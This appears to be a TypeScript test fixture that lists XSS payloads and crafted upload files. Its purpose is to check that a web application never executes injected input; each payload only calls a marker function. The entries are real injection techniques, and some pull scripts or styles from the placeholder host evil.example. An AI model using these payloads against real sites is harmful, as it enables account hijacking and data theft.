/**
 * What people try so that a page runs it. Whatever runs calls `__xss`. `xssprobe` marks elements that no page of ours
 * has. Each is at most 100 characters, so that it fits a name.
 */
export const payloads: readonly string[] = [
  // elements
  '<script>__xss(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=__xss(3)>',
  '<svg onload=__xss(4)>',
  '<svg><script>__xss(5)</script></svg>',
  '<svg/onload=__xss`6`>',
  '<iframe srcdoc="<script>parent.__xss(7)</script>">',
  '<iframe src=javascript:parent.__xss(8)>',
  '<details open ontoggle=__xss(9)>',
  '<video><source onerror=__xss(10)></video>',
  '<body onload=__xss(11)>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=__xss(12)>',
  '<noscript><p title="</noscript><img src=x onerror=__xss(13)>">',
  '<input autofocus onfocus=__xss(14)>',
  '<marquee onstart=__xss(15)>',
  '<object data="data:text/html,<script>__xss(16)</script>"></object>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<form id=xssprobe action=//evil.example><button>x</button></form>',
  // out of where it stands
  '"><img src=x onerror=__xss(21)>',
  "' onmouseover='__xss(22)' autofocus onfocus='__xss(22)' x='",
  '" autofocus onfocus=__xss(23) x="',
  '</title><script>__xss(24)</script>',
  '</textarea><script>__xss(25)</script>',
  '</script><script>__xss(26)</script>',
  '--><img src=x onerror=__xss(27)>',
  ']]><img src=x onerror=__xss(28)>',
  '</style><img src=x onerror=__xss(29)>',
  '`><img src=x onerror=__xss(30)>',
  // addresses
  'javascript:__xss(31)',
  '[hier](javascript:__xss(32))',
  '[hier](JaVa&#x53;cript&colon;__xss(33))',
  '[hier](java\tscript:__xss(34))',
  '![x](x"onerror="__xss(35))',
  '<javascript:__xss(36)>',
  '[hier](data:text/html;base64,PHNjcmlwdD5fX3hzcygzNyk8L3NjcmlwdD4=)',
  '[x]: javascript:__xss(38)\n\n[x]',
  'javascript://nazorg.test/%0a__xss(39)',
  '<a href="vbscript:__xss(40)" id=xssprobe>hier</a>',
  // templates
  `$${'{'}__xss(41)}`,
  '{{constructor.constructor("__xss(42)")()}}',
  '<%= __xss(43) %>',
  '{__xss(44)}',
  // characters
  '＜script＞__xss(45)＜/script＞',
  '\u2028<img src=x onerror=__xss(46)>',
  '\u202e<img src=x onerror=__xss(47)>',
  '+ADw-script+AD4-__xss(48)+ADw-/script+AD4-',
  '&lt;img src=x onerror=__xss(49)&gt;',
  '&#60;script&#62;__xss(50)&#60;/script&#62;',
  '%3Cscript%3E__xss(51)%3C/script%3E',
  '<img\u000csrc=x\u000conerror=__xss(52)>',
  // styles
  '<style>@import "//evil.example/x.css";</style>',
  '<p style="background:url(//evil.example/x.png)" id=xssprobe>',
  'red;background:url(javascript:__xss(55))',
];

/** Everything at once, for fields that hold a text. */
export const everything = payloads.join('\n\n');

const gif = 'GIF89a/*\u0001\u0000\u0001\u0000\u0000\u0000\u0000;*/=1;__xss(60);';
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="__xss(61)"><script>__xss(61)</script></svg>';

/** Files whose names and contents try it; what a picture says it is may be a script as well. */
export const files: readonly { readonly name: string; readonly type: string; readonly content: string }[] = [
  { name: '"><img src=x onerror=__xss(62)>.svg', type: 'image/svg+xml', content: svg },
  { name: "'onfocus='__xss(63)'autofocus='.html", type: 'text/html', content: '<script>__xss(63)</script>' },
  { name: '<script>__xss(64)</script>.gif', type: 'image/gif', content: gif },
  { name: 'javascript:__xss(65).js', type: 'text/javascript', content: '__xss(65)' },
  { name: '\u202egpj.<svg onload=__xss(66)>', type: 'image/jpeg', content: `\u00ff\u00d8\u00ff${svg}` },
  { name: '../../<img src=x onerror=__xss(67)>.pdf', type: 'application/pdf', content: `%PDF-1.7\n${svg}` },
  { name: 'plaat.xml', type: 'text/xml', content: `<?xml version="1.0"?>${svg}` },
];
